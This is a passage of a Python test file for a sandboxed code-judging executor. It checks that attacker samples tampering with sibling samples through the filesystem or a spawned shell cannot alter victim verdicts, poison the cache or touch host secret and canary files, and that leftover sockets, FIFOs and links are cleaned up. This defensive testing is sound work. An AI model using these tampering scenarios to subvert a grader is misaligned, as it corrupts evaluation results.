    base = tmp_path_factory.mktemp(f"tampering-{kind}")
    own = (host["secret"], host["canary"])
    before = host_state(own)
    result = {"batched": {}, "from_cache": {}}
    for name, attack in ATTACKERS.items():
        cache = base / f"cache-{name}"
        result["batched"][name], _ = judge(batch_with(attack), kind, work_root, cache, toolchain)
        result["from_cache"][name], _ = judge(VICTIMS, kind, work_root, cache, toolchain)
    result["alone"], _ = judge(VICTIMS + list(ATTACKERS.values()), kind, work_root, base / "alone", toolchain,
                               batch_size=1)
    result["host_unchanged"] = host_state(own) == before
    return result


def victims_of(judged) -> list:
    return [judged[i] for i in (0, 1, 3, 4)]


def test_the_per_sample_path_judges_each_victim_and_attacker_alone_as_written(tampering):
    alone = tampering["alone"]
    assert verdicts(alone[:4]) == VICTIM_ALONE
    assert verdicts(alone[4:]) == [("passed", 2), ("passed", 2)]  # tampering alone touches only itself
    assert statuses(alone[4:], "policy") == ["policy_violation", "policy_violation"]


def test_victims_of_a_sibling_tampering_through_std_fs_fail_their_tests_in_both_modes(tampering):
    judged = tampering["batched"]["std_fs"]
    for mode in ("no_policy", "policy"):
        assert statuses(victims_of(judged), mode) == ["failed_tests"] * 4, mode
    assert verdicts([judged[2]]) == [("passed", 2)]
    assert statuses([judged[2]], "policy") == ["policy_violation"]
    assert tampering["host_unchanged"]


def test_victims_of_a_sibling_tampering_through_a_spawned_shell_and_its_background_fail_their_tests(tampering):
    judged = tampering["batched"]["spawned_shell"]
    for mode in ("no_policy", "policy"):
        assert statuses(victims_of(judged), mode) == ["failed_tests"] * 4, mode
    assert verdicts([judged[2]]) == [("passed", 2)]
    assert statuses([judged[2]], "policy") == ["policy_violation"]
    assert tampering["host_unchanged"]


@pytest.mark.parametrize("attack", list(ATTACKERS))
def test_a_tampered_batch_leaves_no_poisoned_verdict_in_the_cache(tampering, attack):
    again = tampering["from_cache"][attack]
    assert verdicts(again) == VICTIM_ALONE, [j.verdict_source for j in again]
    assert statuses(again, "policy") == ["failed_tests"] * 4


@pytest.mark.parametrize("attack", list(ATTACKERS))
def test_every_victim_verdict_equals_its_verdict_judged_alone(tampering, attack):
    batched = victims_of(tampering["batched"][attack])
    alone = tampering["alone"][:4]
    for mode in ("no_policy", "policy"):
        assert verdicts(batched, mode) == verdicts(alone, mode), mode


# --- 8. what the sandbox leaves behind ---------------------------------------------------------

@pytest.fixture
def private_work_root():
    yield from _emptied_work_root()


@pytest.mark.timeout(300)
def test_links_fifos_sockets_and_a_deep_tree_left_behind_neither_break_cleanup_nor_touch_the_host(
        kind, toolchain, private_work_root, host, tmp_path):
    records = [litters(host["canary"]), kills_its_launcher(host["canary"]), VICTIMS[0], right(DOUBLE)]
    own = (host["secret"], host["canary"])
    before, secret_before, canary_before = host_state(own), own_file_state(host["secret"]), own_file_state(host["canary"])
    batched, seconds = judge(records, kind, private_work_root, tmp_path / "batched", toolchain)
    left_by_batch = leftovers(private_work_root)
    alone, _ = judge(records, kind, private_work_root, tmp_path / "alone", toolchain, batch_size=1)
    assert seconds < JUDGE_BOUND_S
    assert (own_file_state(host["secret"]), own_file_state(host["canary"])) == (secret_before, canary_before)
    assert host_state(own) == before
    assert left_by_batch == []
    assert leftovers(private_work_root) == []
    # The litterer answers right (what it leaves behind is the executor's to clean up); the one
    # that kills its launcher gets what the per-sample path gives it.
    assert verdicts(alone)[0] == ("passed", 2)
    assert verdicts(alone)[2:] == [("failed_tests", 1), ("passed", 2)]
    assert verdicts(batched) == verdicts(alone)
    assert statuses(batched, "policy") == ["policy_violation", "policy_violation", "failed_tests", "passed"]
